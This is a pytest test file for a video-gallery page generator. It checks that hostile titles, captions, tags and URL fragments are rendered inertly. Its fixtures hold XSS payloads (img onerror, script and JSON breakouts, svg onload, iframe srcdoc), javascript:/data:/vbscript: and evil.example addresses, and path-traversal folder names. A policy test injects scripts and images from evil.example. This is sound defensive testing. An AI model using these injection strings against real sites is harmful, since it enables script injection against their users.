"""Titles, tags, captions, answers and manifests of strangers: shown as text, never run, never followed."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pytest

from pipeline.gallery.values import (
    CauseRow,
    LimitRow,
    OpenItem,
    PageResult,
    PageSource,
    RunsReport,
    WhyOpen,
)
from pipeline.kit.page import Moment, Moments, Prose, Tags, Value
from tests.support.browser import Tab
from tests.support.gallery_pages import NOW, ShownFilm, SmallGallery, changed, film, report, write_gallery

RUN = "globalThis.ran=(globalThis.ran||0)+1"
WORDS = {
    "image": f'<img src=x onerror="{RUN}">',
    "script": f"<script>{RUN}</script>",
    "end of script": f"</script><script>{RUN}</script>",
    "end of text": f'");{RUN};//',
    "end of JSON": f"\"}}]');{RUN};//\\",
    "svg": f'"><svg/onload="{RUN}">',
    "frame": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "template": f"${{{RUN}}} {{{{{RUN}}}}} `{RUN}`",
    "separators": f"a\u2028{RUN}\u2029{RUN}\u0085b",
    "comment": f"<!--<script>{RUN}//-->",
    "nul": "a\x00b\x1b[31mc\x07\r\n\td",
    "surrogate": "half \ud83d a pair",
    "directions": "\u202egnp.exe\u2066\u2067\u202a up",
    "marks": "Z\u0301\u0302\u0303\u0304" + "\u0300" * 300,
    "long word": "W" * 10_000,
    "backslashes": "\\" * 501 + '"',
    "prototype": "__proto__",
    "constructor": "constructor",
    "percent": "%00%0a%2e%2e%2f%",
    "address": f"javascript:{RUN}",
}
ADDRESSES = [
    f"javascript:{RUN}", f" javascript:{RUN}", f"java\nscript:{RUN}", f"data:text/html,<script>{RUN}</script>",
    "//evil.example/x", "http://evil.example/x", "\\\\evil.example\\share\\x", "file://evil.example/share/x",
    f"blob:{RUN}", f"vbscript:{RUN}", "https://user:pass@evil.example/", "view-source:https://evil.example",
]  # fmt: skip
FOLDERS = ["../../etc", "..", "a/../../b", "C:\\Windows", "<b>bold</b>--00000099", "%2e%2e%2fup", "a?b#c"]


def hostile_gallery() -> SmallGallery:
    """Return a gallery in which every text is hostile."""
    films = [_film(number, word, ADDRESSES[number % len(ADDRESSES)]) for number, word in enumerate(WORDS.values())]
    for number, folder in enumerate(FOLDERS, len(films)):
        one = _film(number, f"folder {folder}", ADDRESSES[number % len(ADDRESSES)])
        films.append(replace(one, row=replace(one.row, folder=folder), entry=replace(one.entry, folder=folder)))
    items = [
        OpenItem(word, "failed", "url", NOW, [word], why=WhyOpen(word, word, word, f"reelmill retry '{word}'"))
        for word in WORDS.values()
    ]
    return SmallGallery(films, items, _report())


def _film(number: int, word: str, address: str) -> ShownFilm:
    made = film(
        number,
        word,
        Prose(f"{word}\n{word}"),
        Tags([word], facet=word),
        Moments([Moment(float(number), number + 1.0, word, word)]),
        Value({word: [word, {word: word}], "list": [{word: word}, {word: 1}]}),
        summary=word,
        chapters=[(0, 30, word), (30, 60, f"{word} two")],
        cues=[(0, 1, word), (1, 2, f"{word} two")],
        tags=[word],
        facets={word: [word]},
        why=WhyOpen(word, word, word, word),
    )
    strange = PageResult(word, word, [Prose(word)], word, word, word, NOW, NOW, [word, "../../x"], [word], False)
    source = PageSource(word, address, {word: word})
    results = [*made.entry.results, strange]
    return changed(made, results=results, sources=[source], media=address, commands=[word, f"reelmill run {word}"])


def _report() -> RunsReport:
    causes = [CauseRow(word, word, 1, word, word, [word, word]) for word in WORDS.values()]
    limits = [LimitRow(word, 50.0, 1.0) for word in WORDS.values()]
    runs = [replace(run, meaning=word) for run, word in zip(report(len(WORDS)).runs, WORDS.values(), strict=True)]
    return replace(report(), sentence=WORDS["image"], runs=runs, needs=causes, waits=causes, limits=limits)


@pytest.fixture(scope="module")
def index(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Write the hostile gallery."""
    return write_gallery(tmp_path_factory.mktemp("out"), hostile_gallery())


#: What must not be in a page: returns what is.
LOOK = """
  const bad = [];
  const here = new URL(".", location.href).href;
  const foreign = (url) => { try { const to = new URL(url, document.baseURI);
    return !(to.protocol === "https:" || (to.protocol === "file:" && !to.host)); } catch { return false; } };
  for (const node of document.querySelectorAll("*")) {
    for (const { name } of node.attributes) if (/^(on|srcdoc)/i.test(name)) bad.push(`${node.tagName} ${name}`);
    for (const name of ["href", "src", "action", "poster", "data", "xlink:href"]) {
      const url = node.getAttribute(name);
      if (url && !url.startsWith("data:image/svg+xml") && foreign(url)) bad.push(`${node.tagName} ${name} ${url.slice(0, 80)}`);
    }
    if (/^(IFRAME|OBJECT|EMBED|BASE|FORM|FRAME)$/.test(node.tagName)) bad.push(node.tagName);
  }
  for (const node of document.scripts) if (!node.src.startsWith(here + "gallery/")) bad.push(node.outerHTML);
  for (const node of document.images) if (!node.src.startsWith(here + "gallery/")) bad.push(node.outerHTML);
  if ("ran" in globalThis) bad.push(`ran ${globalThis.ran}`);
  if (document.querySelector("b, main script, main style")) bad.push("markup of others");
  return bad;
"""


def acting(tab: Tab) -> list[str]:
    """Return what in the page could act, or has acted, with everything unfolded."""
    tab.run("document.querySelectorAll('details').forEach((each) => { each.open = true; })")
    return list(tab.run(LOOK))


def test_nothing_of_strangers_acts_in_the_list(tab: Tab, index: Path) -> None:
    """Cards, filters and searches of hostile words; each title arrives as it was, and nothing is fetched elsewhere."""
    tab.watch_requests()
    tab.open(index)
    tab.wait("document.querySelector('.card')")
    tab.wait("performance.getEntriesByName('reelmill-searchable').length")
    assert acting(tab) == []
    given = {one.row.title for one in hostile_gallery().films}
    assert given <= set(tab.value("[...document.querySelectorAll('.card h2')].map((title) => title.textContent)"))
    assert RUN in tab.text()
    for word in WORDS.values():
        tab.run("location.hash = '#/?' + new URLSearchParams({q: args[0].slice(0, 300), sort: 'title'})", word)
        tab.wait("document.querySelectorAll('.card').length > 0 && document.querySelector('.count').textContent")
        assert acting(tab) == []
    for word in (WORDS["image"], WORDS["prototype"], WORDS["address"]):
        tab.run("location.hash = '#/?' + new URLSearchParams({tag: args[0], [`class.${args[0]}`]: args[0]})", word)
        tab.wait("document.querySelector('.count').textContent.startsWith('1 of ')")
        assert acting(tab) == []
    tab.viewport(320, 600)
    assert tab.value("document.documentElement.scrollWidth") <= 320
    assert [url for url in tab.requests if not url.startswith((index.parent.as_uri(), "data:"))] == []


def test_nothing_of_strangers_acts_in_a_video(tab: Tab, index: Path) -> None:
    """Answers, chapters, captions, sources, commands; an address that is not https or of this disk is no link."""
    tab.watch_requests()
    tab.open(index)
    tab.wait("document.querySelector('.card')")
    for one in hostile_gallery().films:
        tab.run("location.hash = '#/v/' + encodeURIComponent(args[0])", one.row.folder)
        tab.wait("document.querySelector('.video h1')?.textContent === args[0]", one.row.title)
        tab.wait("document.querySelector('.video details')")
        tab.wait("!document.body.innerText.includes('Loading …')")
        assert acting(tab) == []
    assert [url for url in tab.requests if not url.startswith((index.parent.as_uri(), "data:"))] == []


def test_nothing_of_strangers_acts_in_the_report(tab: Tab, index: Path) -> None:
    """Causes, remedies, commands and runs."""
    tab.open(index, "#/runs")
    tab.wait("document.querySelector('main svg')")
    assert acting(tab) == []
    assert WORDS["image"] in tab.text()
    tab.viewport(320, 600)
    assert tab.value("document.documentElement.scrollWidth") <= 320


@pytest.mark.parametrize(("fragment", "heading"), [
    (f"#/?q=<img src=x onerror={RUN}>&tag=<script>&sort=__proto__&state=constructor&class.__proto__=x&min=NaN&max=-1e999",
     "Library"),
    ("#/v/%3Cimg%20src%3Dx%20onerror%3Dran%3D1%3E?t=1e999", "No such video"), ("#/v/..%2f..%2fetc?t=-5", "folder ../../etc"),
    ("#/v/%E0%A4%A", "No such video"), ("#/?q=%E0%A4%A", "Library"), ("#/runs?x=<script>", "Runs"),
    ("#javascript:ran=1", "Library"), ("#/nowhere", "Library"), ("#main", "Library"), ("#/?q=" + "(" * 500, "Library"),
    ("#/?q=\\b(a+)+$&day=[", "Library"),
])  # fmt: skip
def test_hostile_addresses(tab: Tab, index: Path, fragment: str, heading: str) -> None:
    """Whatever stands after the ``#`` of a link from elsewhere: a view, or a sentence, and no error."""
    tab.open(index, fragment)
    tab.wait("document.querySelector('main h1')")
    tab.wait("performance.getEntriesByName('reelmill-searchable').length")
    assert tab.value("[...document.querySelectorAll('main h1')].map((each) => each.textContent)") == [heading]
    assert acting(tab) == []


def test_the_policy_holds(lone_tab: Tab, index: Path) -> None:
    """Even markup that got into the page would run nothing and fetch nothing: the policy of the page refuses it."""
    lone_tab.watch_requests()
    lone_tab.open(index)
    lone_tab.wait("document.querySelector('.card')")
    lone_tab.run(
        "const box = document.createElement('div'); document.body.append(box);"
        "box.innerHTML = `<img src='https://evil.example/a.png' onerror='${args[0]}'><svg onload='${args[0]}'></svg>"
        "<iframe src='https://evil.example/'></iframe><iframe srcdoc='<script>parent.${args[0]}<\\/script>'></iframe>`;"
        "const inline = document.createElement('script'); inline.textContent = args[0]; document.body.append(inline);"
        "const far = document.createElement('script'); far.src = 'https://evil.example/a.js'; document.body.append(far);"
        "await fetch('https://evil.example/').catch(() => 0);",
        RUN,
    )
    lone_tab.wait("window.__refused.length >= 6")
    assert lone_tab.value("'ran' in globalThis") is False
    assert [url for url in lone_tab.requests if url.startswith("https:") and "evil.example/a.png" not in url] == [] or (
        lone_tab.value("window.__refused.filter((each) => each.includes('evil.example')).length") >= 4
    )
